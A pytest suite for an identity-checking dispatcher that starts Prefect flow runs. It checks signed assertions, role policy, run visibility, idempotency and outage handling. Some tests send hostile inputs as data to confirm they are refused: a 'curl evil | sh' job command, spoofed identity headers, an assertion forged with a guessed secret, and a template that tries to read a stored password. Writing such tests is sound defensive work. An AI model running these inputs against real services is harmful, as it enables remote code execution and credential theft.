"""The dispatcher end to end: a real Prefect server on SQLite, the example flows served with
``serve()``, the dispatcher as its own process, and assertions signed like the filter's.

Tests that describe what any caller sees use the ``caller`` fixture, so they run twice: with
assertions minted here (``direct``) and through the real gateway (``envoy``: Envoy with the
identity filter, see conftest.py). Where the gateway answers first (no token at all, no role
the gateway requires), the test says so. Tests about the assertion itself (expiry, audience,
replay) talk to the dispatcher directly; test_gateway.py has the gateway's own.
"""

from __future__ import annotations

import time
import uuid

import httpx
import pytest

from identity_devkit.testing import DispatcherProcess, wait_for_run
from local_http import FaultProxy, ScriptedServer, json_answer
from people import ADMIN, ALICE, BLOCKED, BOB, ERIN, FRANK, GINA, MALLORY, SEALED

HELLO = "/runs/hello/hello"
ECHO = "/runs/echo/echo"


def reason(response: httpx.Response) -> str | None:
    return response.headers.get("x-identity-reason")


def assert_refused(response: httpx.Response, status: int, header: str) -> dict:
    assert response.status_code == status, response.text
    assert reason(response) == header
    body = response.json()
    assert body["error"] == header.split(";")[0]
    assert body["status"] == status
    return body


@pytest.fixture
def direct(dispatcher):
    """Sends hand-made assertions straight to the dispatcher."""
    with httpx.Client(base_url=dispatcher.url, timeout=30.0) as http:
        yield http


def with_assertion(token: str) -> dict[str, str]:
    return {"x-identity-assertion": token}


# -- allowed --------------------------------------------------------------------------------


@pytest.mark.parametrize("algorithm", ["EdDSA", "HS256"])
def test_authorized_run_completes_with_identity_recorded(caller, prefect_server, dispatcher, algorithm):
    if hasattr(caller, "algorithm"):
        caller.algorithm = algorithm
    response = caller.request("POST", HELLO, identity=ALICE, json={"name": "Ada"})
    assert response.status_code == 201, response.text
    started = response.json()
    assert started["created"] is True
    assert started["rule"] == "hello-runners"

    run = wait_for_run(prefect_server.api_url, started["flow_run_id"], timeout=60)
    assert run["state"]["type"] == "COMPLETED"
    assert {"identity:alice", "issuer:idp.test", "tenant:acme"} <= set(run["tags"])
    assert run["parameters"]["name"] == "Ada"
    assert run["parameters"]["requested_by"] == {
        "sub": "alice", "issuer": "https://idp.test/realms/main", "tenant": "acme", "provider": "test"}
    assert run["labels"]["identity.sub"] == "alice"
    assert run["labels"]["identity.issuer"] == "https://idp.test/realms/main"

    state = caller.request("GET", f"/runs/{started['flow_run_id']}", identity=ALICE)
    assert state.status_code == 200
    assert state.json()["state"]["type"] == "COMPLETED"

    logged = [d for d in dispatcher.decisions() if d.get("flow_run_id") == started["flow_run_id"]]
    assert logged[0]["decision"] == "allow"
    assert logged[0]["reason"] == "run_created"
    assert logged[0]["deployment"] == "hello/hello"
    assert logged[0]["identity"] == {"sub": "alice", "idp": "https://idp.test/realms/main",
                                     "tenant": "acme", "provider": "test", "binding": "none"}


def test_flow_without_requested_by_gets_none(caller, prefect_server):
    response = caller.request("POST", ECHO, identity=ERIN, json={"message": "hi"})
    assert response.status_code == 201, response.text
    run_id = response.json()["flow_run_id"]
    run = wait_for_run(prefect_server.api_url, run_id, timeout=60)
    assert run["state"]["type"] == "COMPLETED"
    assert "requested_by" not in run["parameters"]
    assert "identity:erin" in run["tags"]


# -- 401: no trustworthy identity -----------------------------------------------------------


def test_no_assertion_is_401(caller):
    # Through the gateway, no token means no assertion: the filter refuses first (token_missing).
    response = caller.request("POST", HELLO, identity=None, json={})
    assert_refused(response, 401, caller.unauthenticated_reason)


def test_plain_identity_headers_are_not_enough(caller):
    spoofed = {"x-identity-subject": "alice", "x-identity-roles": "flow-runner",
               "x-identity-issuer": "https://idp.test/realms/main", "x-identity-tenant": "acme"}
    response = caller.request("POST", HELLO, identity=None, json={}, headers=spoofed)
    assert response.status_code == 401


def test_deployment_requiring_a_bound_token_refuses_binding_none_and_accepts_dpop(
        direct, assertion_minter, prefect_server, dispatcher):
    """Rule sealed-runners (hello/*) requires a DPoP- or certificate-bound token: the same caller
    is refused with an unbound token (and with an assertion from a filter that predates the
    ``binding`` claim), and allowed with a DPoP-bound one; the run records the binding."""
    def start(request_id: str, **claims) -> httpx.Response:
        token = assertion_minter.mint(SEALED, "POST", HELLO, request_id=request_id, **claims)
        return direct.post(HELLO, json={"name": "Sealed"}, headers=with_assertion(token))

    unbound = start(f"unbound-{uuid.uuid4()}", binding="none")
    body = assert_refused(unbound, 403, "binding_required; rule=sealed-runners")
    assert "detail" not in body and body["rule"] == "sealed-runners"
    older = start(f"older-{uuid.uuid4()}", binding=None)  # no binding claim at all
    assert_refused(older, 403, "binding_required; rule=sealed-runners")

    bound = start(f"bound-{uuid.uuid4()}", binding="dpop")
    assert bound.status_code == 201, bound.text
    assert bound.json()["rule"] == "sealed-runners"
    run = wait_for_run(prefect_server.api_url, bound.json()["flow_run_id"], timeout=60)
    assert run["labels"]["identity.binding"] == "dpop"
    assert run["labels"]["identity.rule"] == "sealed-runners"

    decisions = dispatcher.decisions()
    refused = [d for d in decisions if d.get("reason") == "binding_required"
               and d["identity"]["sub"] == "sealed"]
    assert len(refused) >= 2 and all(d["rule"] == "sealed-runners" for d in refused)
    assert any("'none'" in d["detail"] for d in refused)
    allowed = [d for d in decisions if d.get("flow_run_id") == bound.json()["flow_run_id"]]
    assert allowed[0]["identity"]["binding"] == "dpop"


def test_assertion_replayed_on_another_path_is_401(direct, assertion_minter):
    token = assertion_minter.mint(ALICE, "POST", HELLO)
    assert_refused(direct.post(ECHO, json={}, headers=with_assertion(token)), 401, "assertion_binding")


def test_assertion_replayed_with_another_method_is_401(direct, assertion_minter):
    run_path = f"/runs/{uuid.uuid4()}"
    token = assertion_minter.mint(ALICE, "POST", run_path)
    assert_refused(direct.get(run_path, headers=with_assertion(token)), 401, "assertion_binding")


def test_wrong_audience_is_401(direct, assertion_minter):
    token = assertion_minter.mint(ALICE, "POST", HELLO, aud="another-service")
    assert_refused(direct.post(HELLO, json={}, headers=with_assertion(token)), 401, "assertion_audience")


def test_expired_assertion_is_401(direct, assertion_minter):
    now = int(time.time())
    token = assertion_minter.mint(ALICE, "POST", HELLO, iat=now - 120, exp=now - 60)
    assert_refused(direct.post(HELLO, json={}, headers=with_assertion(token)), 401, "assertion_expired")


def test_assertion_from_another_issuer_is_401(direct, assertion_minter):
    token = assertion_minter.mint(ALICE, "POST", HELLO, iss="not-the-filter")
    assert_refused(direct.post(HELLO, json={}, headers=with_assertion(token)), 401, "assertion_issuer")


def test_forged_assertion_is_401_without_details(direct, assertion_minter):
    claims = assertion_minter.claims(ALICE, "POST", HELLO)
    token = assertion_minter.sign(claims, "HS256", key=b"guessed-secret-guessed-secret-32")
    body = assert_refused(direct.post(HELLO, json={}, headers=with_assertion(token)), 401, "assertion_invalid")
    assert "detail" not in body


def test_two_assertion_headers_are_401(direct, assertion_minter):
    token = assertion_minter.mint(ALICE, "POST", HELLO)
    headers = [("x-identity-assertion", token), ("x-identity-assertion", token)]
    assert_refused(direct.post(HELLO, json={}, headers=headers), 401, "assertion_invalid")


# -- 403: policy ----------------------------------------------------------------------------


def test_caller_without_the_role_is_403_naming_the_rule(caller, dispatcher):
    def mallorys() -> list[dict]:
        return [d for d in dispatcher.decisions() if d.get("identity", {}).get("sub") == "mallory"]

    before = len(mallorys())
    response = caller.request("POST", HELLO, identity=MALLORY, json={"name": "x"})
    if caller.name == "envoy":
        # The gateway requires a run role itself: its rule refuses, the dispatcher never sees it.
        assert_refused(response, 403, "forbidden; rule=runs-start")
        assert len(mallorys()) == before
        return
    assert_refused(response, 403, "forbidden; rule=hello-runners")
    denied = mallorys()
    assert denied and denied[-1]["decision"] == "deny" and denied[-1]["rule"] == "hello-runners"
    assert "flow_run_id" not in denied[-1]


def test_deny_rule_names_itself(caller):
    response = caller.request("POST", HELLO, identity=BLOCKED, json={})
    assert_refused(response, 403, "forbidden; rule=blocked-tenant")


def test_forbidden_parameter_is_403(caller):
    response = caller.request("POST", HELLO, identity=ALICE, json={"name": "x", "greeting": "hi"})
    body = assert_refused(response, 403, "parameter_forbidden; rule=hello-runners")
    assert "greeting" in body["detail"]


def test_job_variables_are_refused(caller, dispatcher):
    body = {"name": "x", "job_variables": {"command": "curl evil | sh"}}
    response = caller.request("POST", HELLO, identity=ADMIN, json=body)
    assert_refused(response, 403, "job_variables_refused")


def test_requested_by_cannot_be_sent(caller):
    response = caller.request("POST", HELLO, identity=ADMIN, json={"requested_by": {"sub": "ceo"}})
    assert_refused(response, 403, "parameter_reserved")


def test_prefect_templates_cannot_read_variables(caller, prefect_server):
    created = httpx.post(f"{prefect_server.api_url}/variables/", json={"name": "db_password", "value": "hunter2"},
                         timeout=10)
    assert created.status_code in (201, 409), created.text  # 409: made by the other caller's run
    leak = {"name": {"__prefect_kind": "workspace_variable", "variable_name": "db_password"}}
    response = caller.request("POST", HELLO, identity=ADMIN, json=leak)
    assert_refused(response, 403, "parameter_template_refused")


def test_allowed_but_missing_deployment_is_404(caller):
    response = caller.request("POST", "/runs/nope/nope", identity=ADMIN, json={})
    assert_refused(response, 404, "deployment_not_found")


def test_body_must_be_a_json_object(direct, assertion_minter):
    token = assertion_minter.mint(ALICE, "POST", HELLO)
    response = direct.post(HELLO, content=b"[1, 2]", headers=with_assertion(token))
    assert_refused(response, 400, "body_invalid")


def test_bad_body_of_an_unauthenticated_caller_is_401_not_400(direct):
    response = direct.post(HELLO, content=b"{not json")
    assert_refused(response, 401, "assertion_missing")


def test_prefect_parameter_validation_is_422(caller):
    response = caller.request("POST", HELLO, identity=ADMIN, json={"name": {"not": "a string"}})
    assert_refused(response, 422, "parameters_invalid")


# -- reading runs ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def alices_run(dispatcher, assertion_minter):
    token = assertion_minter.mint(ALICE, "POST", HELLO)
    response = httpx.post(dispatcher.url + HELLO, json={"name": "mine"},
                          headers=with_assertion(token), timeout=30)
    assert response.status_code == 201, response.text
    return response.json()["flow_run_id"]


def test_owner_reads_the_run(caller, alices_run):
    response = caller.request("GET", f"/runs/{alices_run}", identity=ALICE)
    assert response.status_code == 200
    # The same shape as the flow's requested_by parameter.
    assert response.json()["requested_by"] == {
        "sub": "alice", "issuer": "https://idp.test/realms/main", "tenant": "acme", "provider": "test"}


def test_another_caller_cannot_read_the_run(caller, alices_run):
    theirs = caller.request("GET", f"/runs/{alices_run}", identity=BOB)
    missing = caller.request("GET", f"/runs/{uuid.uuid4()}", identity=BOB)
    assert_refused(theirs, 404, "run_not_found")
    # Indistinguishable from a run that does not exist.
    assert theirs.json() == missing.json()
    assert reason(theirs) == reason(missing)


def test_tenant_shared_runs_are_read_by_the_tenant_only(caller):
    started = caller.request("POST", ECHO, identity=ERIN, json={"message": "team"})
    assert started.status_code == 201, started.text
    run_id = started.json()["flow_run_id"]
    assert caller.request("GET", f"/runs/{run_id}", identity=FRANK).status_code == 200
    assert_refused(caller.request("GET", f"/runs/{run_id}", identity=GINA), 404, "run_not_found")


def test_reading_a_run_needs_an_assertion(caller, alices_run):
    response = caller.request("GET", f"/runs/{alices_run}", identity=None)
    assert_refused(response, 401, caller.unauthenticated_reason)


# -- idempotency ----------------------------------------------------------------------------


def test_same_request_id_gives_the_same_run(caller):
    request_id = f"req-{uuid.uuid4()}"
    first = caller.request("POST", HELLO, identity=ALICE, json={"name": "once"}, request_id=request_id)
    again = caller.request("POST", HELLO, identity=ALICE, json={"name": "once"}, request_id=request_id)
    assert (first.status_code, again.status_code) == (201, 200)
    assert first.json()["flow_run_id"] == again.json()["flow_run_id"]
    assert again.json()["created"] is False


def test_same_request_id_with_other_parameters_is_409(caller):
    request_id = f"req-{uuid.uuid4()}"
    first = caller.request("POST", HELLO, identity=ALICE, json={"name": "a"}, request_id=request_id)
    other = caller.request("POST", HELLO, identity=ALICE, json={"name": "b"}, request_id=request_id)
    assert first.status_code == 201
    assert_refused(other, 409, "idempotency_conflict")


def test_same_request_id_from_another_caller_is_another_run(caller):
    request_id = f"req-{uuid.uuid4()}"
    first = caller.request("POST", HELLO, identity=ALICE, json={"name": "a"}, request_id=request_id)
    second = caller.request("POST", HELLO, identity=BOB, json={"name": "a"}, request_id=request_id)
    assert (first.status_code, second.status_code) == (201, 201)
    assert first.json()["flow_run_id"] != second.json()["flow_run_id"]


# -- Prefect unavailable --------------------------------------------------------------------


@pytest.fixture
def dispatcher_via(chain_workdir, dispatcher_policy_file, dispatcher_env):
    """Starts an extra dispatcher with other Prefect URL / settings; stops it after the test."""
    started: list[DispatcherProcess] = []

    def start(api_url: str, **env: str) -> DispatcherProcess:
        process = DispatcherProcess(chain_workdir, api_url, dispatcher_policy_file,
                                    {**dispatcher_env, **env}, name=f"dispatcher-{uuid.uuid4().hex[:8]}")
        started.append(process)
        return process

    yield start
    for process in started:
        process.stop()


def test_prefect_503_is_retried(prefect_server, served_flows, dispatcher_via, assertion_minter):
    with FaultProxy(prefect_server.api_url.rsplit("/api", 1)[0], "/create_flow_run", fail_first=2) as proxy:
        process = dispatcher_via(proxy.url + "/api", DISPATCHER_PREFECT_BACKOFF_SECONDS="0.05")
        token = assertion_minter.mint(ALICE, "POST", HELLO)
        response = httpx.post(process.url + HELLO, json={"name": "retry"},
                              headers=with_assertion(token), timeout=30)
        assert response.status_code == 201, response.text
        assert proxy.failed == 2


def test_prefect_down_is_503_prefect_unavailable(prefect_server, dispatcher_via, assertion_minter):
    with FaultProxy(prefect_server.api_url.rsplit("/api", 1)[0], "/api/", fail_first=None) as proxy:
        process = dispatcher_via(proxy.url + "/api", DISPATCHER_PREFECT_BACKOFF_SECONDS="0.01",
                                 DISPATCHER_PREFECT_ATTEMPTS="3")
        token = assertion_minter.mint(ALICE, "POST", HELLO)
        response = httpx.post(process.url + HELLO, json={"name": "x"},
                              headers=with_assertion(token), timeout=30)
        assert_refused(response, 503, "prefect_unavailable")
        assert response.headers["retry-after"] == "5"
        # Three attempts at the Prefect calls; the refusal event (POST /api/events, sent in the
        # background) may or may not have arrived yet, so it is not counted.
        attempts = [r for r in proxy.received if not r.path.startswith("/api/events")]
        assert len(attempts) == 3, [r.path for r in proxy.received]


# -- keys from a JWKS URL; a gateway that strips a path prefix --------------------------------


def test_keys_fetched_from_a_jwks_url(prefect_server, dispatcher_via, assertion_minter):
    run_path = f"/runs/{uuid.uuid4()}"
    with ScriptedServer({"/.well-known/identity-jwks": json_answer(200, assertion_minter.public_jwks())}) as jwks:
        process = dispatcher_via(prefect_server.api_url, DISPATCHER_HS256_SECRET="", DISPATCHER_JWKS_FILE="",
                                 DISPATCHER_JWKS_URL=jwks.url + "/.well-known/identity-jwks")
        token = assertion_minter.mint(ALICE, "GET", run_path)
        # Authenticated: the run simply does not exist.
        response = httpx.get(process.url + run_path, headers=with_assertion(token), timeout=30)
        assert_refused(response, 404, "run_not_found")
        hs_token = assertion_minter.mint(ALICE, "GET", run_path, algorithm="HS256")
        response = httpx.get(process.url + run_path, headers=with_assertion(hs_token), timeout=30)
        assert_refused(response, 401, "assertion_invalid")


def test_unreachable_jwks_url_is_503_keys_unavailable(prefect_server, dispatcher_via, assertion_minter):
    run_path = f"/runs/{uuid.uuid4()}"
    with ScriptedServer({}) as jwks:  # answers 404 to everything
        process = dispatcher_via(prefect_server.api_url, DISPATCHER_HS256_SECRET="", DISPATCHER_JWKS_FILE="",
                                 DISPATCHER_JWKS_URL=jwks.url + "/jwks")
        token = assertion_minter.mint(ALICE, "GET", run_path)
        response = httpx.get(process.url + run_path, headers=with_assertion(token), timeout=30)
        assert_refused(response, 503, "keys_unavailable")
        assert response.headers["retry-after"] == "5"


def test_binding_includes_the_prefix_the_gateway_strips(prefect_server, dispatcher_via, assertion_minter):
    run_path = f"/runs/{uuid.uuid4()}"
    process = dispatcher_via(prefect_server.api_url, DISPATCHER_PATH_PREFIX="/prefect")
    as_seen_by_filter = assertion_minter.mint(ALICE, "GET", "/prefect" + run_path)
    response = httpx.get(process.url + run_path, headers=with_assertion(as_seen_by_filter), timeout=30)
    assert_refused(response, 404, "run_not_found")
    unprefixed = assertion_minter.mint(ALICE, "GET", run_path)
    response = httpx.get(process.url + run_path, headers=with_assertion(unprefixed), timeout=30)
    assert_refused(response, 401, "assertion_binding")
